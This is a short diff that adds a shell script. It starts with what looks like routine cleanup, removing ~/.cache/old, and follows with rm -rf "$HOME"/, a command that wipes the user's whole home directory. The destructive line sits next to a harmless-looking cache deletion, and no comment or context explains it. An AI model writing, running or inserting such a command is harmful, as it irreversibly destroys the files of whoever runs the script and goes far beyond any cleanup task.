@@ -1,0 +1,3 @@
+#!/bin/sh
+rm -rf ~/.cache/old
+rm -rf "$HOME"/
